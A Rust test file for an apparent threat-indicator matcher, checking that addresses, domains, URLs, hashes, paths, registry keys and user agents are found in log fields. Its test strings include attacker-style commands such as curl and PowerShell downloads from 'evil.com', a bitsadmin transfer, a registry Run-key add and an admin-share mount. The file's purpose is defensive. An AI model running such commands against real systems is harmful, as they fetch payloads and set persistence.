//! Which parts of which values are asked for.

use blanik_model::{IndicatorType, Value};

use super::*;
use crate::indicators::set::tests::set;

/// The values of the indicators that stand in a field's value.
fn found(holds: Holds, text: &str) -> Vec<String> {
    use IndicatorType::*;
    let md5 = "0123456789abcdef0123456789abcdef";
    let index = Index::new(set(&[
        (Address, "1.2.3.4"),
        (Address, "2001:db8::1"),
        (Network, "198.51.100.0/24"),
        (Domain, "evil.com"),
        (Domain, "deep.evil.org"),
        (Url, "host.net/a.php"),
        (Url, "5.6.7.8/x"),
        (Md5, md5),
        (Imphash, "ffffffffffffffffffffffffffffffff"),
        (Mail, "spy@evil.com"),
        (FileName, "upd.exe"),
        (FilePath, "/stage/drop.bin"),
        (FilePath, "c:/users/public/x y.exe"),
        (Mutex, "evilmutex"),
        (RegistryKey, "hkcu/software/evil"),
        (UserAgent, "EvilAgent/1.0 (x)"),
        (Ja4, "t13d1516h2_8daaf6152771_e5627efa2ab1"),
    ]));
    let mut out = Vec::new();
    Finder::default().find(&index, holds, Value::string(text), &mut out);
    let value = |found: &Found| match found {
        Found::Indicator(ix) => index.set().value(*ix).to_owned(),
        Found::PathOf(ix) => format!("path of {}", index.set().value(*ix)),
        Found::Trigger(_) => "trigger".to_owned(),
    };
    out.iter().map(value).collect()
}

#[test]
fn addresses_in_fields_of_addresses() {
    for (text, want) in [
        ("1.2.3.4", &["1.2.3.4"][..]),
        ("::ffff:1.2.3.4", &["1.2.3.4"]),
        ("1.2.3.4:443", &["1.2.3.4"]),
        ("[2001:DB8::1]:80", &["2001:db8::1"]),
        ("2001:0db8:0:0::1", &["2001:db8::1"]),
        ("10.0.0.1, 1.2.3.4", &["1.2.3.4"]),
        ("198.51.100.77", &["198.51.100.0/24"]),
        ("198.51.101.77", &[]),
        ("11.2.3.4", &[]),
        ("::ffff:1.2.3.4;type:  5 cdn.Evil.com;", &["1.2.3.4", "evil.com"]),
        ("www.evil.com.", &["evil.com"]),
        ("notevil.com", &[]),
        ("evil.com.cz", &[]),
        ("x.deep.evil.org", &["deep.evil.org"]),
        ("evil.org", &[]),
    ] {
        assert_eq!(found(Holds::Endpoint, text), want, "{text}");
    }
}

#[test]
fn an_address_in_a_text_is_no_version() {
    for text in [
        "ping 1.2.3.4",
        "ping -n 1 1.2.3.4 -w 10",
        "http://1.2.3.4/x",
        r"net use \\1.2.3.4\c$",
        "connect(\"1.2.3.4\", 443)",
        "rhost=1.2.3.4;",
        "[1.2.3.4]",
        "from 1.2.3.4.",
        "1.2.3.4:8080",
        "ssh root@1.2.3.4",
        "ping 1[.]2[.]3[.]4",
    ] {
        assert_eq!(found(Holds::Text, text), ["1.2.3.4"], "{text}");
    }
    for text in [
        "setup-1.2.3.4.exe",
        "Version=1.2.3.4, Culture=neutral",
        "version 1.2.3.4",
        "FileVersion: 1.2.3.4",
        "v1.2.3.4",
        "Mozilla/5.0 Chrome/1.2.3.4 Safari/537",
        r"C:\Program Files\App\1.2.3.4\x.dll",
        "/usr/lib/1.2.3.4/x.so",
        "1.2.3.4-beta",
        "1.2.3.4.5",
        "build 1.2.3.4",
        "11.2.3.4",
    ] {
        assert_eq!(found(Holds::Text, text), [""; 0], "{text}");
    }
    // Where nobody knows what a field holds, its whole value is believed.
    assert_eq!(found(Holds::Any, "1.2.3.4"), ["1.2.3.4"]);
}

#[test]
fn names_links_and_mail_in_a_text() {
    for (text, want) in [
        ("curl -k https://CDN.evil.com/x", &["evil.com"][..]),
        ("powershell iwr hxxp://cdn[.]evil[.]com/x", &["evil.com"]),
        (r"type \\evil.com\share", &["evil.com"]),
        (r"C:\tools\evil.com", &[]),
        ("/opt/evil.com", &[]),
        ("$evil.com", &[]),
        ("x.evil.com(1)", &[]),
        ("From: Spy <SPY@Evil.com>", &["evil.com", "spy@evil.com"]),
        ("bitsadmin /transfer http://HOST.net:80/a.php?id=7 x", &["host.net/a.php"]),
        ("see http://host.net/a.php.", &["host.net/a.php"]),
        ("http://host.net/b.php", &[]),
        ("http://5.6.7.8/x", &["5.6.7.8/x"]),
        ("hash 0123456789ABCDEF0123456789abcdef!", &["0123456789abcdef0123456789abcdef"]),
        ("x0123456789ABCDEF0123456789abcdef", &[]),
        (r"start C:\Temp\upd.exe -x", &["upd.exe"]),
        (r"start C:\Temp\notupd.exe -x", &[]),
        (r#"cmd /c "C:\Users\Public\x y.exe""#, &["c:/users/public/x y.exe"]),
        (r"reg add HKCU\Software\Evil\Sub /v x", &["hkcu/software/evil"]),
        ("connect to 2001:db8::1 now", &["2001:db8::1"]),
    ] {
        assert_eq!(found(Holds::Text, text), want, "{text}");
    }
}

#[test]
fn each_field_holds_its_own() {
    let hashes = "MD5=0123456789ABCDEF0123456789ABCDEF,IMPHASH=FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF";
    for (holds, text, want) in [
        (
            Holds::Hash,
            hashes,
            &["0123456789abcdef0123456789abcdef", "ffffffffffffffffffffffffffffffff"][..],
        ),
        (Holds::Hash, "IMPHASH=0123456789ABCDEF0123456789ABCDEF", &[]),
        (Holds::Hash, "MD5=FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF", &[]),
        (Holds::Path, r"C:\Windows\UPD.exe", &["upd.exe"]),
        (Holds::Path, r"C:\Users\a\AppData\Local\Temp\stage\drop.bin", &["/stage/drop.bin"]),
        (Holds::Path, r"C:\stage\drop.bin.old", &[]),
        (Holds::Uri, "/a.php?q=1", &["path of host.net/a.php"]),
        (Holds::Uri, "/b/a.php", &[]),
        (Holds::Agent, "EvilAgent/1.0 (x)", &["EvilAgent/1.0 (x)"]),
        (Holds::Agent, "EvilAgent/1.0", &[]),
        (Holds::Mutex, r"\Sessions\1\BaseNamedObjects\EvilMutex", &["evilmutex"]),
        (Holds::Registry, r"HKU\S-1-5-21-1-2-3-500\SOFTWARE\Evil\Run", &["hkcu/software/evil"]),
        (Holds::Registry, r"HKU\S-1-5-21-1-2-3-500\SOFTWARE\EvilTwin", &[]),
        (
            Holds::Ja4,
            "t13d1516h2_8daaf6152771_e5627efa2ab1",
            &["t13d1516h2_8daaf6152771_e5627efa2ab1"],
        ),
        (Holds::Mail, "spy@evil.com,b@c.cz", &["evil.com", "spy@evil.com"]),
    ] {
        assert_eq!(found(holds, text), want, "{holds:?} {text}");
    }
}

#[test]
fn hostile_texts_are_walked_once() {
    for text in
        ["a.".repeat(1 << 18), "1.2.3.4".repeat(1 << 15), ":".repeat(1 << 19), "[.".repeat(1 << 16)]
    {
        found(Holds::Text, &text);
        found(Holds::Any, &text);
    }
}
